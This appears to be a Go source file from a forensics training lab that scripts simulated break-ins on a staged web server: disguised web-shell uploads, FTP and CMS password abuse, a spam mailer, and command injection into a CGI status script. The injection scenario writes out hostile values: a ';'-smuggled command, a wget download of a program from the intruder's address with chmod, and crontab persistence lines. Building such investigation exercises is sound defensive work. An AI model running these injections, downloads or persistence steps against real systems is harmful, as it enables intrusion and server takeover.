package scenarios

import (
	"fmt"
	"net/url"
	"strings"

	"telltale/lab"
	"telltale/lab/site"
)

// uploads gives the site's folder of uploads to a server.
func withUploads(s lab.Setup) lab.Setup {
	s.Pages = append(s.Pages, lab.UploadForm)
	return s
}

// shellLeft takes down what a web shell and its commands left.
func shellLeft(p *lab.Play, path, program string) {
	p.Left("web-shell", path, "www-data")
	p.Left("cron", "/var/spool/cron/crontabs/www-data", "www-data")
	p.Truth.Expect.Files = append(p.Truth.Expect.Files, path, program)
}

func webUpload() *lab.Scenario {
	return &lab.Scenario{
		Name: "web-upload", Title: "a script uploaded through a weak form", Question: "Which way in, when, from where, as whom, and what is left?",
		Setup: func(p *lab.Play) lab.Setup { return withUploads(server(p, lab.Web, lab.Mail)) },
		Story: func(p *lab.Play) error {
			f := &p.Intruder
			script, n, program, err := webShell(p, f)
			path := "/uploads/" + f.Script
			return steps(func() error { return err }, func() error { return life(p, 2+p.Rand.IntN(3)) }, func() error { return photo(p) }, func() error { return later(p) },
				func() error {
					_, err := p.Get("web_probe", lab.Intruder, "looks at the form", lab.Request{From: f.Addresses[0], Path: "/gallery.php", Agent: f.Agent})
					return err
				},
				func() error { return p.Pause(9) },
				func() error {
					_, err := p.Get("web_upload", lab.Intruder, "uploads a script", lab.Request{From: f.Addresses[0], Method: "POST", Path: "/upload.php", Agent: f.Agent, Referer: "http://" + p.Host + "." + p.Domain + "/gallery.php",
						Upload: &lab.Upload{Field: "photo", Name: f.Script, Type: "image/jpeg", Data: script}})
					return err
				},
				func() error { return asks(p, f, path, n) }, func() error { return p.Stage.Cron(p.Ctx) },
				func() error {
					status(p, "compromised")
					p.Entered("web-upload", "www-data", "uploads a script", []string{"access.log", "file times"}, f.Addresses[0])
					shellLeft(p, site.Root+path, program)
					return life(p, 1)
				})
		},
	}
}

// photo is an ordinary upload.
func photo(p *lab.Play) error {
	who := p.Visitors[0]
	_, err := p.Get("upload", lab.Visitor, "uploads a photo", lab.Request{From: who.Address, Method: "POST", Path: "/upload.php", Agent: who.Agent, Referer: "http://" + p.Host + "." + p.Domain + "/gallery.php",
		Upload: &lab.Upload{Field: "photo", Name: fmt.Sprintf("IMG_%d.jpg", p.Rand.IntN(9000)), Type: "image/jpeg", Data: []byte("\xff\xd8\xff\xe0\x00\x10JFIF\x00" + p.Domain)}})
	return err
}

func ftpUpload() *lab.Scenario {
	return &lab.Scenario{
		Name: "ftp-upload", Title: "an ftp password, and a script put into the web root", Question: "A script stands in the web root. Who put it there, and from where?",
		Setup: func(p *lab.Play) lab.Setup {
			s := server(p, lab.Web, lab.FTP)
			// The site's editor writes the web root.
			s.Files = append(s.Files, lab.File{Path: site.Root + "/news/", Owner: p.Staff[2].Account, Mode: 0o755})
			return s
		},
		Story: func(p *lab.Play) error {
			f, who := &p.Intruder, p.Staff[2]
			script, n, program, err := webShell(p, f)
			path := "/news/" + f.Script
			own := func() error {
				return p.Act("ftp_upload", lab.Visitor, who.Account, who.Address, "brings a page", func() error {
					return p.Stage.FTP(p.Ctx, lab.Transfer{From: who.Address, Account: who.Account, Password: who.Password, Path: fmt.Sprintf("%s/news/item%d.html", site.Root, p.Rand.IntN(900)), Data: []byte("<h1>news</h1>")})
				})
			}
			return steps(func() error { return err }, own, func() error { return life(p, 2+p.Rand.IntN(3)) }, own, func() error { return later(p) },
				func() error {
					return p.Act("ftp_upload", lab.Intruder, who.Account, f.Addresses[0], "uploads a script by ftp", func() error {
						return p.Stage.FTP(p.Ctx, lab.Transfer{From: f.Addresses[0], Account: who.Account, Password: who.Password, Path: site.Root + path, Data: script})
					})
				},
				func() error { return asks(p, f, path, n) }, func() error { return p.Stage.Cron(p.Ctx) },
				func() error {
					status(p, "compromised")
					p.Entered("ftp-password", who.Account, "uploads a script by ftp", []string{"vsftpd.log"}, f.Addresses[0])
					shellLeft(p, site.Root+path, program)
					return life(p, 1)
				})
		},
	}
}

func cgiInjection() *lab.Scenario {
	return &lab.Scenario{
		Name: "cgi-injection", Title: "a command injected into a CGI, answered by status 500", Question: "No request succeeded, says the log. How does a program of www-data come into this hideout?",
		Setup: func(p *lab.Play) lab.Setup {
			s := server(p, lab.Web)
			s.Pages = append(s.Pages, lab.StatusCGI)
			return s
		},
		Story: func(p *lab.Play) error {
			f := &p.Intruder
			program := f.Dir + "/" + f.Program
			inject := func(what, command string) error {
				q := strings.NewReplacer("+", "%20").Replace(url.QueryEscape("localhost;" + command))
				_, err := p.Get("web_exploit", lab.Intruder, what, lab.Request{From: f.Addresses[0], Path: "/cgi-bin/status.sh?host=" + q, Agent: f.Agent})
				return errJoin(err, p.Pause(5))
			}
			return steps(func() error { return p.Stage.Serve(f.Addresses[0], "/"+f.Program, waiter(f)) }, func() error { return life(p, 2+p.Rand.IntN(3)) }, func() error { return later(p) },
				func() error { return inject("injects a first command", "id") },
				func() error {
					return inject("injects the download", "mkdir -p "+f.Dir+";wget -O "+program+" http://"+f.Addresses[0].String()+"/"+f.Program+";chmod 755 "+program)
				},
				func() error {
					return inject("injects a crontab", "echo \"*/6 * * * * "+program+"\" | crontab -")
				},
				func() error { return p.Stage.Cron(p.Ctx) },
				func() error {
					status(p, "compromised")
					p.Entered("web-exploit", "www-data", "injects a first command", []string{"access.log", "error.log"}, f.Addresses[0])
					p.Left("cron", "/var/spool/cron/crontabs/www-data", "www-data")
					p.Truth.Expect.Files = []string{program}
					return life(p, 1)
				})
		},
	}
}

func errJoin(errs ...error) error { return attempts(errs...) }

func cmsTheme() *lab.Scenario {
	var password string
	return &lab.Scenario{
		Name: "cms-theme", Title: "the site's administrator guessed, then the theme editor", Question: "The site's own software was used as it is meant to be. By whom?",
		Setup: func(p *lab.Play) lab.Setup {
			s := server(p, lab.Web)
			s.Pages = append(s.Pages, lab.CMS)
			password, _ = p.Weak("admin")
			s.Files = append(s.Files, site.Users("admin", password))
			return s
		},
		Story: func(p *lab.Play) error {
			f := &p.Intruder
			script, n, program, err := webShell(p, f)
			post := func(kind, what, path string, form map[string]string) error {
				_, err := p.Get(kind, lab.Intruder, what, lab.Request{From: f.Addresses[0], Method: "POST", Path: path, Agent: f.Agent, Form: form})
				return errJoin(err, p.Pause(0.8))
			}
			editor := func() error { // the owner works with it, too
				who := p.Visitors[1]
				if _, err := p.Get("cms", lab.Visitor, "works on the site", lab.Request{From: who.Address, Method: "POST", Path: "/wp-login.php", Agent: who.Agent, Form: map[string]string{"log": "admin", "pwd": password}}); err != nil {
					return err
				}
				_, err := p.Stage.HTTP(p.Ctx, lab.Request{From: who.Address, Path: "/wp-admin/theme-editor.php", Agent: who.Agent})
				return err
			}
			return steps(func() error { return err }, editor, func() error { return life(p, 2+p.Rand.IntN(3)) }, func() error { return later(p) },
				func() error {
					for i := range 14 + p.Rand.IntN(12) {
						if err := post("web_guess", "tries a password of the site's administrator", "/wp-login.php", map[string]string{"log": "admin", "pwd": fmt.Sprint("guess", i)}); err != nil {
							return err
						}
					}
					return nil
				},
				func() error {
					return post("web_login", "enters as the site's administrator", "/wp-login.php", map[string]string{"log": "admin", "pwd": password})
				},
				func() error {
					return post("web_edit", "writes a script with the theme editor", "/wp-admin/theme-editor.php?file=404.php", map[string]string{"newcontent": string(script)})
				},
				func() error { return asks(p, f, strings.TrimPrefix(site.Theme, site.Root), n) }, func() error { return p.Stage.Cron(p.Ctx) },
				func() error {
					status(p, "compromised")
					p.Entered("web-admin", "www-data", "enters as the site's administrator", []string{"access.log", "file times"}, f.Addresses[0])
					shellLeft(p, site.Theme, program)
					return life(p, 1)
				})
		},
	}
}

func phpMailer() *lab.Scenario {
	return &lab.Scenario{
		Name: "php-mailer", Title: "a script of the site sends spam through mail()", Question: "This server sends junk mail. Which program, and who put it there?",
		Setup: func(p *lab.Play) lab.Setup { return withUploads(server(p, lab.Web, lab.Mail)) },
		Story: func(p *lab.Play) error {
			f := &p.Intruder
			n, path := 60+p.Rand.IntN(90), "/uploads/"+f.Script
			if !p.Stage.Written() {
				n = 30
			}
			run := func() error {
				_, err := p.Get("spam", lab.Intruder, "makes the script send its mails", lab.Request{From: f.Addresses[1], Path: path, Agent: f.Agent})
				return err
			}
			return steps(func() error { return life(p, 2+p.Rand.IntN(3)) }, func() error { return photo(p) }, func() error { return later(p) },
				func() error {
					_, err := p.Get("web_upload", lab.Intruder, "uploads a mailing script", lab.Request{From: f.Addresses[0], Method: "POST", Path: "/upload.php", Agent: f.Agent,
						Upload: &lab.Upload{Field: "photo", Name: f.Script, Type: "image/jpeg", Data: site.Mailer(n)}})
					return err
				},
				func() error { return p.Pause(90) }, run, func() error { return p.Pause(300) }, run,
				func() error {
					status(p, "compromised")
					p.Entered("web-upload", "www-data", "uploads a mailing script", []string{"access.log", "file times"}, f.Addresses[0])
					p.Truth.Expect.Files = []string{site.Root + path}
					p.Truth.Expect.May = []string{site.Root + path}
					p.Truth.Expect.Impact = []lab.ImpactTruth{{What: "spam", MinCount: int64(2 * n), By: "www-data", First: p.First("makes the script")}}
					p.Guilty(f.Addresses[1].String())
					return life(p, 1)
				})
		},
	}
}

func twoIntruders() *lab.Scenario {
	var tries []string
	return &lab.Scenario{
		Name: "two-intruders", Title: "two break-ins that have nothing to do with each other", Question: "How many were here, and which trace is whose?",
		Setup: func(p *lab.Play) lab.Setup {
			s := withUploads(server(p, lab.Web))
			tries = weaken(p, &s, 0)
			return s
		},
		Story: func(p *lab.Play) error {
			f, g, who := &p.Intruder, &p.Second, p.Staff[0]
			script, n, program, err := webShell(p, g)
			path := "/uploads/" + g.Script
			fetch, other, err2 := brings(p, f)
			return steps(func() error { return errJoin(err, err2) }, func() error { return life(p, 2) }, func() error { return later(p) },
				func() error { return p.Refused(lab.Intruder, f.Addresses[0], who.Account, tries...) },
				func() error {
					lines := append(append(looks(p), fetch...), "echo '*/11 * * * * "+other+" >/dev/null 2>&1' | crontab -")
					return p.Visit(lab.Intruder, "logs in with the guessed password", lab.Login{From: f.Addresses[0], Account: who.Account, Password: who.Password}, lines...)
				},
				func() error {
					p.Entered("ssh-password-guessed", who.Account, "guessed password", []string{"auth.log", "wtmp"}, f.Addresses[0])
					p.Left("cron", "/var/spool/cron/crontabs/"+who.Account, who.Account)
					return life(p, 1)
				}, func() error { return later(p) },
				func() error {
					_, err := p.Get("web_upload", lab.Intruder, "uploads a script", lab.Request{From: g.Addresses[0], Method: "POST", Path: "/upload.php", Agent: g.Agent, Upload: &lab.Upload{Field: "photo", Name: g.Script, Type: "image/jpeg", Data: script}})
					return err
				},
				func() error { return asks(p, g, path, n) }, func() error { return p.Stage.Cron(p.Ctx) },
				func() error {
					status(p, "compromised")
					p.Entered("web-upload", "www-data", "uploads a script", []string{"access.log", "file times"}, g.Addresses[0])
					shellLeft(p, site.Root+path, program)
					p.Truth.Expect.Files = append(p.Truth.Expect.Files, other)
					return life(p, 1)
				})
		},
	}
}
